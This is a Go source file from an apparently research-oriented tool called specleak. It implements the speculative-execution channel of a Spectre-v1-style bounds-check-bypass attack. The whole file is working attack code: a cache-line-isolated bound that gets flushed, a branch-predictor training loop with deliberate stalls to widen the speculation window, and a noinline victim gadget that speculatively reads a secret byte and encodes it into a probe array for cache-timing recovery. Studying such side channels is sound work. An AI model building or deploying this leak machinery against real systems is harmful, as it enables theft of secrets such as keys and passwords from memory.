package oracle

import (
	"unsafe"

	"github.com/kolkov/specleak/internal/cpu"
	"github.com/kolkov/specleak/internal/probe"
)

// boundCell holds the victim's size limit on a cache line of its own, so
// flushing it evicts nothing else and nothing else brings it back.
type boundCell struct {
	_ [cpu.LineSize]byte
	n uintptr
	_ [cpu.LineSize]byte
}

// speculative is the hardware Channel.
type speculative struct {
	base  unsafe.Pointer
	size  *uintptr
	probe *probe.Array

	sched      schedule
	iterations int
	stall      int
}

func newSpeculative(target Target, arr *probe.Array, cfg Config) *speculative {
	cell := &boundCell{n: target.Bound}
	return &speculative{
		base:       target.Base,
		size:       &cell.n,
		probe:      arr,
		sched:      newSchedule(cfg.TrainRatio),
		iterations: cfg.TrainingIterations,
		stall:      cfg.StallIterations,
	}
}

// Round implements Channel.
func (s *speculative) Round(offset uintptr, times *Timings) {
	s.probe.Reset()
	s.probe.EvictAll()
	s.train(offset)
	s.measure(times)
}

// train runs the training burst. Between calls the bound is flushed and the
// oracle stalls: the next comparison then waits on memory while the index,
// the secret load and the probe address resolve from cache. That gap is the
// speculation window.
func (s *speculative) train(offset uintptr) {
	for i := 0; i < s.iterations; i++ {
		cpu.Evict(unsafe.Pointer(s.size))
		cpu.Stall(s.stall)
		s.victim(s.sched.index(i, offset))
	}
}

// victim is the bounds-checked gadget. The read of base[idx] goes through
// unsafe.Add so the only bounds check is the one against *s.size.
//
//go:noinline
func (s *speculative) victim(idx uintptr) {
	if idx < *s.size {
		cpu.Touch(s.probe.Slot(*(*byte)(unsafe.Add(s.base, idx))))
	}
}
